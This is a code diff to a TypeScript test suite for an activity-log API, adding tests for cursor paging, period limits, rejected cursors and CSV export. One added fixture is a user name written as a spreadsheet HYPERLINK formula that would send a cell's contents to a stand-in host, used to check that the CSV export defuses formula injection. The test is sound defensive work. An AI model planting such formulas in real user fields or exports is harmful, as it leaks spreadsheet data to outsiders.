@@ -1,5 +1,7 @@
-import { todayIn } from '@agency/domain';
+import { type ActivityAnswer, type ActivityEntryView, LIMITS, toCsv } from '@agency/contracts';
+import { addDays, todayIn } from '@agency/domain';
 import { startTestProduct, TEST_ADMIN, type TestProduct } from '@agency/scripts/testing/test-product';
+import { contact } from '@agency/scripts/testing/test-requests';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 
 /** The activity log: the commands of a period, grouped from their events, read from the event store. */
@@ -10,6 +12,8 @@ describe('activity log (real PostgreSQL)', () => {
   let tutor: string;
   let auditorId = '';
   let tutorId = '';
+  /** A user whose name a spreadsheet would run as a formula. */
+  const formulaName = '=HYPERLINK("https://example.com/?"&A1,"Open")';
   const today = todayIn('Europe/London', new Date());
 
   const fetchAs = (url: string, token: string) =>
@@ -37,7 +41,46 @@ describe('activity log (real PostgreSQL)', () => {
     auditor = await product.login('audie', password);
     await api.post('/api/users', { username: 'lou', password, role: 'tutor', tutorId, name: 'Lou Log' });
     tutor = await product.login('lou', password);
+    await api.post('/api/users', { username: 'formula', password, role: 'admin', name: formulaName });
+    const formula = product.api(await product.login('formula', password));
+    await formula.post('/api/clients/contact', contact('Fay', 'Formula'));
+    // More commands than a small page holds, one of them (new rates and subjects) of two events.
+    for (const name of ['Ann', 'Bob', 'Cat', 'Dee']) await api.post('/api/clients/contact', contact(name, 'Paged'));
+    const { client } = await api.post('/api/clients/contact', contact('Pat', 'Paged'));
+    const { child } = await api.post(`/api/clients/child/${client.id}`, {
+      firstName: 'Kid',
+      lastName: 'Paged',
+      dob: '2014-01-01',
+    });
+    const terms = { tutorId, studentId: child.id, commissionPct: 20, partnerPct: 0 };
+    const { engagement } = await api.post('/api/tutors/engagement', {
+      ...terms,
+      rate: 30,
+      startDate: '2024-09-01',
+      subjects: ['Maths'],
+    });
+    await api.post('/api/tutors/engagement', {
+      ...terms,
+      id: engagement.id,
+      rate: 35,
+      startDate: '2024-10-01',
+      subjects: ['Maths', 'English'],
+    });
   });
+
+  /** Every page of today's log (`limit` commands a page), each asked for with the `nextCursor` of the one before. */
+  const allPages = async (limit: number) => {
+    const pages: ActivityAnswer[] = [];
+    let cursor: string | null = null;
+    do {
+      const page: ActivityAnswer = await product
+        .api(auditor)
+        .get(`/api/activity?from=${today}&to=${today}&limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`);
+      pages.push(page);
+      cursor = page.nextCursor;
+    } while (cursor);
+    return pages;
+  };
   afterAll(() => product?.dispose());
 
   it("lists the period's commands: who, when, what in words, on which entity", async () => {
@@ -83,5 +126,70 @@ describe('activity log (real PostgreSQL)', () => {
   it('is for admins and auditors, and refuses a period that ends before it starts', async () => {
     expect((await fetchAs(`/api/activity?from=${today}&to=${today}`, tutor)).status).toBe(403);
     expect((await fetchAs(`/api/activity?from=${today}&to=2000-01-01`, admin)).status).toBe(400);
+  });
+
+  it(`answers a period of ${LIMITS.maxActivityDays} days at most, in JSON and in CSV`, async () => {
+    const last = addDays(today, -(LIMITS.maxActivityDays - 1));
+    expect((await fetchAs(`/api/activity?from=${last}&to=${today}`, auditor)).status).toBe(200);
+    for (const format of ['json', 'csv']) {
+      const response = await fetchAs(`/api/activity?from=${addDays(last, -1)}&to=${today}&format=${format}`, auditor);
+      expect(response.status).toBe(400);
+      const { error } = await response.json();
+      expect(error).toMatchObject({ code: 'invalid_input', fields: { to: expect.stringMatching(/31 days at most/) } });
+    }
+    const wide = await fetchAs('/api/activity?from=1900-01-01&to=2100-12-31&format=csv', auditor);
+    expect(wide.status).toBe(400);
+  });
+
+  it('pages through the period: every command once, in order, each whole, whatever the page size', async () => {
+    const [whole] = await allPages(500);
+    expect(whole?.nextCursor).toBeNull();
+    const commands = whole?.commands ?? [];
+    expect(commands.length).toBeGreaterThan(6);
+    const ids = commands.map((entry) => entry.commandId);
+    expect(new Set(ids).size).toBe(ids.length);
+    const times = commands.map((entry) => entry.recordedAt);
+    expect(times).toEqual([...times].sort());
+    // The command of two events is one entry, whole on whichever page it falls.
+    const changed = commands.find((entry) => entry.what.length > 1);
+    expect(changed?.what.join(' ')).toMatch(/Rate.*Subjects|Subjects.*Rate/i);
+    for (const limit of [1, 2, 3]) {
+      const pages = await allPages(limit);
+      expect(pages.length).toBeGreaterThanOrEqual(Math.ceil(commands.length / limit));
+      expect(pages.flatMap((page) => page.commands)).toEqual(commands);
+      // Each page keeps the answer's other fields.
+      expect(pages.every((page) => page.from === today && page.users.length === whole?.users.length)).toBe(true);
+    }
+  });
+
+  it('refuses a cursor it did not make, and a page size past the bound', async () => {
+    for (const bad of ['nonsense', Buffer.from('["t","x","1"]').toString('base64url')]) {
+      const response = await fetchAs(`/api/activity?from=${today}&to=${today}&cursor=${bad}`, auditor);
+      expect(response.status).toBe(400);
+      expect((await response.json()).error.fields).toHaveProperty('cursor');
+    }
+    expect((await fetchAs(`/api/activity?from=${today}&to=${today}&limit=501`, auditor)).status).toBe(400);
+  });
+
+  it('answers the CSV of the whole period as its pages hold it, a formula typed as a name defused', async () => {
+    const pages = await allPages(2);
+    const row = (entry: ActivityEntryView) => [
+      entry.when,
+      entry.who.name,
+      entry.who.role,
+      entry.streams.join(' '),
+      entry.what.join('; '),
+      entry.commandId,
+    ];
+    const response = await fetchAs(`/api/activity?from=${today}&to=${today}&format=csv`, auditor);
+    expect(response.status).toBe(200);
+    const csv = await response.text();
+    expect(csv).toBe(
+      toCsv([['When', 'Who', 'Role', 'Entity', 'What', 'Command'], ...pages.flatMap((page) => page.commands.map(row))]),
+    );
+    const given = pages.flatMap((page) => page.commands).find((entry) => entry.who.name === formulaName);
+    expect(given).toBeDefined();
+    const line = csv.split('\r\n').find((text) => text.endsWith(`,"${given?.commandId}"`));
+    expect(line).toContain(`,"'=HYPERLINK(""https://example.com/?""&A1,""Open"")","admin",`);
   });
 });
